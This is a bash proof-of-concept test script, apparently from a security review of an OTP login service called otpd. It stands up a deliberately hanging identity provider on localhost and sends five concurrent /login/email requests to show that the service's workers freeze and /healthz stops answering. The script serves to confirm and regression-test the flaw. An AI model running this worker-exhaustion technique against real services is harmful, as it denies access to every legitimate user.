#!/bin/bash
# 01 - a hanging (or hostile) partner identity provider freezes all of otpd.
# discover() fetches the provider's discovery document while holding the provider's mutex, with the
# provider's timeout (10 s default), and retries on every request while it has no good document. The
# email step for any address of the provider's domain (no invitation needed: /login/email) runs that in
# an HTTP worker thread; with the default 4 workers, 4 such requests from one client make every other
# request wait, /healthz and nginx's /auth for every guest included.
# Exit 1: the attack works (/healthz not answered within 8 s); 0: refused.
cd "$(dirname "$0")/.." || exit 2
. tests/otpd/lib.sh
IDP_PORT=$(free_port)
python3 findings/slow_idp.py "$IDP_PORT" &
IDP_PID=$!
CLEANUP_HOOK='kill $IDP_PID 2>/dev/null; for p in $BG; do kill $p 2>/dev/null; done'
BG=
setup
printf 'secret\n' >"$T/client.secret"
chmod 600 "$T/client.secret"
cat >>"$T/otpd.conf" <<EOC
[oidc partner]
issuer = http://127.0.0.1:$IDP_PORT
client_id = otpd
client_secret_file = $T/client.secret
domains = partner.example
EOC
start_sink
start_otpd
t0=$(date +%s.%N)
curl -s -o /dev/null --max-time 3 "$BASE/healthz" || fail "otpd not healthy before the attack"
page "$BASE/login" >/dev/null
csrf=$(csrf_of "$T/pg")
for i in 1 2 3 4 5; do
	command curl -s -o /dev/null --max-time 60 -b "$T/jar" --data-urlencode "email=nobody$i@partner.example" \
		--data "csrf=$csrf" "$BASE/login/email" &
	BG="$BG $!"
done
sleep 1
start=$(date +%s.%N)
code=$(command curl -s -o /dev/null -w '%{http_code}' --max-time 8 "$BASE/healthz")
took=$(python3 -c "print(round($(date +%s.%N) - $start, 1))")
echo "/healthz during the attack: status $code after ${took}s"
if [ "$code" != 200 ]; then
	echo "VULNERABLE: otpd stopped answering everyone while 5 requests waited on a hanging provider"
	kill -KILL "$OTPD_PID" 2>/dev/null; wait "$OTPD_PID" 2>/dev/null; OTPD_PID=
	exit 1
fi
echo "refused: otpd kept answering"
exit 0
